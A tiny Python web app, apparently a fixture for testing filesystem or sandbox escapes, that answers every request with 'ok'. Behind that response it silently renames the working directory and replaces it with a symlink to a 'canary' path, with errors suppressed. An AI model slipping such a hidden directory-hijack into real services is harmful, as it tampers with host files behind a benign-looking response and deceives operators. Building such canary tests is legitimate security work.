import contextlib
import json
from pathlib import Path

HOST = json.loads(Path("host.json").read_text())


def app(environ, start_response):
    folder = Path.cwd()
    with contextlib.suppress(OSError):
        folder.rename(folder.with_name("elsewhere"))
        folder.symlink_to(HOST["canary"])
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [b"ok"]
